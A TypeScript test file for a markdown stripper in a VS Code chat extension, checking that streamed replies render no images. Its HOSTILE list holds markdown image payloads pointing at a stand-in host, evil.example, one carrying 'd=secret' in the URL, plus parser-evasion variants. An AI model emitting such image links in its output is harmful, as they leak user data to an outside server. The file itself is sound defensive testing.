// @stateful's replies reach VS Code's Chat without images (issue 39, item 8), as the webview
// shows them: an inline image becomes its alt text, any other `![` is made harmless with a
// zero-width space, fenced code passes untouched, and streaming in any chunks gives the same
// text. Every hostile case is rendered with markdown-it (CommonMark; the webview's parser), with
// and without HTML blocks: the input renders an image, the output none.

import assert from "node:assert/strict";
import { describe, it } from "node:test";
import MarkdownIt from "markdown-it";
import { ImageFreeMarkdown, MAX_IMAGE_CHARS } from "../../src/extension/shell/lm/image-free-markdown";
import { seededRandom } from "../support/random";

// Two parses: the webview's (raw HTML off) and one that reads HTML blocks, as VS Code's renderer does.
const parsers = [new MarkdownIt({ html: false, linkify: true }), new MarkdownIt({ html: true, linkify: true })];
const images = (markdown: string): number => Math.max(...parsers.map((md) => (md.render(markdown).match(/<img/g) ?? []).length));
const ZWSP = "\u200b";

function whole(text: string): string {
  const stripper = new ImageFreeMarkdown();
  return stripper.push(text) + stripper.end();
}

function inChunks(text: string, sizes: () => number): string {
  const stripper = new ImageFreeMarkdown();
  let out = "";
  for (let i = 0; i < text.length; ) {
    const size = sizes();
    out += stripper.push(text.slice(i, i + size));
    i += size;
  }
  return out + stripper.end();
}

const HOSTILE = [
  "See ![a chart](https://evil.example/x.png?d=secret) here.",
  "![logo][r]\n\n[r]: https://evil.example/r.png",
  "![r]\n\n[r]: https://evil.example/r.png",
  "![a ![b](https://evil.example/in) c](https://evil.example/out)",
  "[![build](https://evil.example/badge.svg)](https://ci.example)",
  "!![[x](https://evil.example/a)](https://evil.example/b)",
  "![](https://evil.example/empty-alt)[x](https://evil.example/link)",
  "- a\n  ```\n![x](https://evil.example/after-list-fence)\n  ```\n![y](https://evil.example/y)",
  "<div>\n```\n</div>\n\n![x](https://evil.example/html)\n```",
  "![```](https://evil.example/a)\n```\n![y](https://evil.example/b)\n",
  "![](https://evil.example/a)```\n![y](https://evil.example/b)\n```\n![z](https://evil.example/c)",
  "```\ncode\n```\t\n![x](https://evil.example/tab-closer)\n```\n![y](https://evil.example/y)",
  "> ```\n> code\n![x](https://evil.example/quote)\n```\n![y](https://evil.example/y)",
  "1. step\n   ```\n   code\n![x](https://evil.example/dedent)\n   ```\n![y](https://evil.example/y)",
  "`a ![x](https://evil.example/in-code-span) b`\n\n\\`![y](https://evil.example/escaped-backtick)`",
  "\\\\![x](https://evil.example/escaped-backslash)",
  "![x](<https://evil.example/angle> \"t(i)tle\")",
  "![x\n](https://evil.example/newline-alt)",
];

describe("@stateful: markdown without images", () => {
  it("an inline image becomes its alt text, nested ones too; a linked badge stays a link", () => {
    assert.equal(whole("See ![a chart](https://evil.example/x.png?d=secret) here."), "See a chart here.");
    assert.equal(whole("![a ![b](https://e/in) c](https://e/out)"), "a b c");
    assert.equal(whole("[![build](https://e/badge.svg)](https://ci.example)"), "[build](https://ci.example)");
  });

  it("every hostile case rendered an image before and renders none after, whole or streamed in any chunks", () => {
    const random = seededRandom(39);
    for (const text of HOSTILE) {
      assert.ok(images(text) > 0, `the case itself renders an image: ${JSON.stringify(text)}`);
      const out = whole(text);
      assert.equal(images(out), 0, `${JSON.stringify(text)} → ${JSON.stringify(out)}`);
      for (const sizes of [() => 1, () => 2, () => 3, () => 1 + Math.floor(random() * 9)]) {
        assert.equal(inChunks(text, sizes), out, `${JSON.stringify(text)} in chunks`);
      }
    }
  });

  it("fenced code passes untouched (Rust's vec! stays copyable); outside code, a non-image `![` only gains a zero-width space", () => {
    const rust = "Use this:\n\n```rust\nlet v = vec![1, 2];\nprintln!(\"{:?}\", v);\n```\n\nDone.";
    assert.equal(whole(rust), rust);
    const listed = "1. Install:\n   ```sh\n   echo ![x](y)\n   ```\n2. Run it.";
    assert.equal(whole(listed), listed);
    assert.equal(whole("Call `vec![1, 2]` here"), `Call \`vec!${ZWSP}[1, 2]\` here`);
    assert.equal(whole("Wow! [link](https://example.com) and \\![not an image](x)"), "Wow! [link](https://example.com) and \\![not an image](x)");
  });

  it("an image that never completes is sent (harmless) once it passes the bound, or at the end", () => {
    const stripper = new ImageFreeMarkdown();
    assert.equal(stripper.push("text ![alt"), "text ");
    const out = stripper.push("x".repeat(MAX_IMAGE_CHARS));
    assert.ok(out.startsWith(`!${ZWSP}[alt`), out.slice(0, 20));
    assert.equal(whole("end ![a](https://evil.example/unclosed"), `end !${ZWSP}[a](https://evil.example/unclosed`);
  });

  it("a text full of `![` costs each one at most the bound's look-ahead, not the whole text (100 KB in one push)", () => {
    const stripper = new ImageFreeMarkdown();
    const out = stripper.push("![".repeat(50_000)) + stripper.end();
    assert.equal(out, `!${ZWSP}[`.repeat(50_000));
    // Counted, not timed: scanning to the end from each `![` would read about 2.5 billion characters.
    const bound = 50_000 * (MAX_IMAGE_CHARS + 1);
    assert.ok(stripper.lookAhead.chars <= bound, `read ${stripper.lookAhead.chars} characters, bound ${bound}`);
    assert.ok(stripper.lookAhead.chars > 0, "the look-ahead is counted");
  });

  it("plain prose streams through at once, not a line at a time", () => {
    const stripper = new ImageFreeMarkdown();
    assert.equal(stripper.push("Hello"), "Hello");
    assert.equal(stripper.push(" world, this is"), " world, this is");
    assert.equal(stripper.push(" text.\n- item"), " text.\n- item");
  });
});
